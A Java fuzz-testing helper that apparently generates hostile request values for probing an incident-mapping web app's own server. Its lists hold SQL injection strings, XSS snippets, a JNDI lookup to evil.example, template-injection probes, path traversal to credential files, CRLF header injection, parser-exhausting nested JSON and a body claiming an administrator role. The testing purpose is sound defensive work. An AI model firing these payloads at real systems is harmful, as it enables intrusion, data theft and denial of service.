package org.lamplight.app;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** Values that somebody sends who wants to break the server or to see what he may not, with many faces for each kind. */
final class HostileValues {

  private static final List<String> TEXTS = List.of(
      "'",
      "\"",
      "\\",
      "' OR '1'='1",
      "'; DROP TABLE incident; --",
      "1) UNION ALL SELECT null,null,version()--",
      "$$;SELECT pg_sleep(9)$$",
      "%27%20OR%201=1",
      "<script>alert(1)</script>",
      "\"><svg onload=alert(1)>",
      "${jndi:ldap://evil.example/a}",
      "#{7*7}",
      "{{7*7}}",
      "../../../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "file:///etc/passwd",
      "\u0000",
      "\r\nSet-Cookie: a=b",
      "\u202e\u0660\u0661",
      "\ud83d\ude08",
      "\ufffe\uffff",
      "NaN",
      "Infinity",
      "-Infinity",
      "1e999",
      "-0",
      "0x10",
      "9223372036854775808",
      "-2147483649",
      "99999999999999999999999999",
      "null",
      "undefined",
      "true",
      "[]",
      "{}",
      ",",
      ",,,,",
      ":",
      "neighborhoods:",
      ":watts",
      "neighborhoods:watts,neighborhoods:watts",
      "",
      " ");
  private static final List<String> FILTERS = List.of(
      "1=1",
      "offence = 'x' OR 1=1",
      "offence LIKE '%%%%%%%%%%%%%%%%%%%%'",
      "offence ILIKE '_%_%_%_%_%_%'",
      "password = 'x'",
      "INCLUDE",
      "EXCLUDE",
      "NOT NOT NOT INCLUDE",
      "strConcat('a','b') = 'ab'",
      "getClass() = 1",
      "BBOX(geometry, 180, 90, -180, -90)",
      "BBOX(geometry, 1e999, 0, 0, 1e999)",
      "DWITHIN(geometry, POINT(0 0), 1e308, kilometers)",
      "INTERSECTS(geometry, POLYGON((0 0, 1 1, 1 0, 0 1, 0 0)))",
      "INTERSECTS(geometry, POLYGON((0 0)))",
      "occurred AFTER 2024-02-30T00:00:00Z",
      "occurred DURING P1Y/P1Y",
      "occurred BEFORE 99999-01-01T00:00:00Z",
      "id = 99999999999999999999",
      "offence IN ()",
      "offence = '",
      "(((((",
      "offence = 'a' AND",
      "\u0000");
  private static final List<String> BOXES = List.of(
      "-118.4,33.9,-118.2,34.1",
      "180,90,-180,-90",
      "-180,-90,180,90",
      "0,0,0,0",
      "1e999,0,1e999,1",
      "NaN,NaN,NaN,NaN",
      "1,2,3",
      "1,2,3,4,5,6",
      "1,2,3,4,5,6,7",
      ",,,",
      "a,b,c,d",
      "-1e308,-1e308,1e308,1e308",
      "4.9e-324,4.9e-324,5e-324,5e-324");
  private static final List<String> TIMES = List.of(
      "2024-01-01T00:00:00Z/..",
      "../..",
      "/",
      "2024-02-30",
      "2024-13-01",
      "2024-01-01T24:00:00Z",
      "2024-06-30T23:59:60Z",
      "+999999999-12-31T23:59:59Z",
      "-999999999-01-01T00:00:00Z/..",
      "2025-01-01T00:00:00Z/2024-01-01T00:00:00Z",
      "2024-01-01T00:00:00+99:00",
      "0000-00-00",
      "2024-03-10T02:30:00",
      "1/2/3");
  private final Random random;

  HostileValues(Random random) {
    this.random = random;
  }

  <T> T oneOf(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }

  boolean oneIn(int n) {
    return random.nextInt(n) == 0;
  }

  /** A value for a parameter or a part of a path, as it stands in the request's first line. */
  String value(String name) {
    return escaped(
        switch (random.nextInt(12)) {
          case 0 -> oneOf(FILTERS);
          case 1 -> oneOf(BOXES);
          case 2 -> oneOf(TIMES);
          case 3 -> nest();
          case 4 -> long_();
          case 5 -> bytes(random.nextInt(40));
          case 6, 7 -> oneOf(TEXTS);
          default -> fitting(name);
        });
  }

  private String fitting(String name) {
    return oneIn(2) ? good(name) : bad(name);
  }

  private String good(String name) {
    return switch (name) {
      case "bbox" -> BOXES.get(0);
      case "datetime" -> TIMES.get(0);
      case "hours", "weekdays" -> "2-5";
      case "limit", "zoom" -> Integer.toString(1 + random.nextInt(20));
      case "f" -> "json";
      case "area" -> "neighborhoods:watts";
      case "group" -> "violent";
      case "origin" -> "reported,mixed";
      default -> "a";
    };
  }

  private String bad(String name) {
    return switch (name) {
      case "bbox" -> oneOf(BOXES);
      case "datetime" -> oneOf(TIMES);
      case "filter" -> oneIn(3) ? nest() : oneOf(FILTERS);
      case "limit", "zoom" -> Integer.toString(random.nextInt(60) - 5);
      case "hours", "weekdays" -> random.nextInt(30) + "-" + random.nextInt(30);
      case "f" -> oneOf(List.of("json", "html", "csv", "geojson", "xml", "JSON", "json,html"));
      default -> oneOf(TEXTS);
    };
  }

  private String nest() {
    int depth = 1 + random.nextInt(1_200);
    return switch (random.nextInt(4)) {
      case 0 -> "(".repeat(depth) + "offence='a'" + ")".repeat(depth);
      case 1 -> "NOT ".repeat(Math.min(depth, 500)) + "offence='a'";
      case 2 -> "offence IN ('" + "a','".repeat(Math.min(depth, 400)) + "a')";
      default -> "INTERSECTS(geometry,POLYGON((" + "0 0,".repeat(Math.min(depth, 450)) + "0 0)))";
    };
  }

  private String long_() {
    return oneOf(List.of("a", "9", "%", "1,", "\u00e9", "-")).repeat(random.nextInt(1_500));
  }

  /** Text of arbitrary bytes. */
  String bytes(int length) {
    byte[] bytes = new byte[length];
    random.nextBytes(bytes);
    return new String(bytes, StandardCharsets.ISO_8859_1);
  }

  /** Mostly escaped as it ought to be; sometimes twice, or hardly, or broken. */
  private String escaped(String text) {
    return switch (random.nextInt(12)) {
      case 0 ->
        URLEncoder.encode(URLEncoder.encode(text, StandardCharsets.UTF_8), StandardCharsets.UTF_8);
      case 1 -> line(text);
      case 2 ->
        URLEncoder.encode(text, StandardCharsets.ISO_8859_1)
            + oneOf(List.of("%", "%0", "%zz", "%00", "%c0%ae"));
      default -> URLEncoder.encode(text, StandardCharsets.UTF_8);
    };
  }

  /** The text where it must stay on its line. */
  static String line(String text) {
    return text.replace("\r", "%0d").replace("\n", "%0a").replace(" ", "%20");
  }

  /** A value of a header. */
  String header() {
    return oneIn(3)
        ? bytes(random.nextInt(60)).replaceAll("[\r\n]", ".")
        : oneOf(TEXTS).replaceAll("[\r\n]", "");
  }

  /** A body, most of them JSON that hurts. */
  String body() {
    int n = 1 + random.nextInt(20_000);
    return switch (random.nextInt(9)) {
      case 0 -> "[".repeat(n);
      case 1 -> "{\"a\":".repeat(n) + "1" + "}".repeat(n);
      case 2 -> "{\"name\":" + "9".repeat(n) + "}";
      case 3 -> "{\"name\":1e" + "9".repeat(1 + random.nextInt(9)) + "}";
      case 4 -> "{\"name\":\"a\",\"name\":\"b\",\"password\":\"" + "x".repeat(n) + "\"}";
      case 5 -> "{\"name\":\"" + oneOf(TEXTS).replace("\"", "") + "\",\"password\":[],\"code\":{}}";
      case 6 -> "{\"name\":\"\\ud800\",\"password\":\"\\u0000\",\"roles\":[\"administrator\"]}";
      case 7 -> bytes(n);
      default -> oneOf(List.of("", "null", "0", "\"a\"", "[]", "{", "{}", "<xml/>"));
    };
  }
}
